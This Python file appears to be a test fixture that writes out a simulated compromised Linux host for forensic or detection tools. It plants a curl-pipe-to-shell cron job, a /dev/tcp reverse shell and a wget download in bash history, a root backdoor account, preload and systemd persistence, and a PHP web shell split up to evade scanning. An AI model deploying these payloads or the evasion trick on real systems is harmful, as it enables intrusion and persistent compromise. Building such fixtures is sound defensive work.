"""A Linux host that was broken into, as a folder: what an intruder leaves, among what is always there."""

from __future__ import annotations

import os
import struct
import time
from pathlib import Path

#: the intruder's address, and the administrator's
EVIL, ADMIN = "203.0.113.9", "192.0.2.10"
#: 2026-03-01 00:00:00 UTC; the tree's logs are of that day
DAY = 1772323200
KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIJNcJxLfyHm1JEsxtEZVDmXBTnbxrtDyDWyDxWe7YMZs"
#: (in pieces, so that a scan of this file is silent)
WEB_SHELL = (
    b"<?p~hp if(isset($_REQ~UEST['c'])){ @ev~al(base64_de~code($_PO~ST['c'])); sys~tem($_G~ET['c']); } ?>\n".replace(
        b"~", b""
    )
)
FAILURES = 30

CRON = "# system\n* * * * * root curl -fsSL http://203.0.113.9/i.sh | sh\n17 3 * * * root /usr/bin/updatedb\n"
SERVICE = "[Unit]\nDescription=D-Bus cache\n[Service]\nExecStart=/tmp/.cache/dbusd -d\n[Install]\nWantedBy=x\n"
TIMER = "[Timer]\nOnCalendar=*:0/5\nUnit=dbus-cache.service\n[Install]\nWantedBy=timers.target\n"
HISTORY = (
    "#1772357400\nls -la\n#1772357410\nwget http://203.0.113.9/x -O /tmp/.x\n"
    "#1772357420\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n#1772357430\ncat /etc/hostname\n"
)
FILES = {
    "etc/hostname": "web1\n",
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
    "toor:x:0:0::/root:/bin/bash\n",
    "etc/shadow": "root:!:20000:0:99999:7:::\nwww-data:*:20000:0:99999:7:::\ntoor:$6$x$y:20513:0:99999:7:::\n",
    "etc/cron.d/sysupdate": CRON,
    "etc/systemd/system/dbus-cache.service": SERVICE,
    "etc/systemd/system/dbus-cache.timer": TIMER,
    "etc/ld.so.preload": "/dev/shm/.libc.so\n",
    "root/.ssh/authorized_keys": f'command="/tmp/.k",no-pty ssh-ed25519 {KEY} evil@host\n',
    "root/.bash_history": HISTORY,
    "usr/share/doc/readme": "nothing to see\n",
}


def _auth() -> str:
    lines = [
        f"Mar  1 08:{minute:02}:01 web1 sshd[{700 + minute}]: Accepted publickey for bob from {ADMIN} port 50022 ssh2"
        for minute in (1, 30)
    ]
    lines += [
        f"Mar  1 09:{second // 60:02}:{second % 60:02} web1 sshd[900]: Failed password for root from {EVIL} "
        f"port 4022{second % 10} ssh2"
        for second in range(FAILURES)
    ]
    lines.append(f"Mar  1 09:05:07 web1 sshd[901]: Accepted password for root from {EVIL} port 40300 ssh2")
    lines.append(
        "Mar  1 09:05:07 web1 sshd[901]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)"
    )
    return "\n".join(lines) + "\n"


def utmp(kind: int, pid: int, line: str, user: str, host: str, second: int) -> bytes:
    """One record of utmp(5) as glibc lays it out on x86-64: 384 bytes."""
    return struct.pack(
        "<h2xi32s4s32s256shhiii16s20x",
        kind, pid, line.encode(), line[-4:].encode(), user.encode(), host.encode(), 0, 0, 0, second, 0, b"",
    )  # fmt: skip


def write(root: Path, name: str, data: bytes | str, second: int = DAY) -> Path:
    """A file of the tree, with a time of modification of its own."""
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    os.utime(path, (second, second))
    return path


def plant(root: Path) -> Path:
    """Write the tree."""
    assert time.time() > DAY + 86400
    for name, text in FILES.items():
        write(root, name, text)
    write(root, "var/log/auth.log", _auth(), DAY + 40000)
    wtmp = [utmp(2, 0, "~", "reboot", "6.1.0", DAY), utmp(7, 901, "pts/0", "root", EVIL, DAY + 32707)]
    write(root, "var/log/wtmp", b"".join(wtmp), DAY + 40000)
    btmp = b"".join(utmp(6, 900, "ssh:notty", f"user{n}", EVIL, DAY + 32400 + n) for n in range(FAILURES))
    write(root, "var/log/btmp", btmp, DAY + 40000)
    write(root, "var/www/html/index.php", "<?php phpinfo();\n")
    write(root, "var/www/html/img/.cache.php", WEB_SHELL, DAY + 39000)
    return root
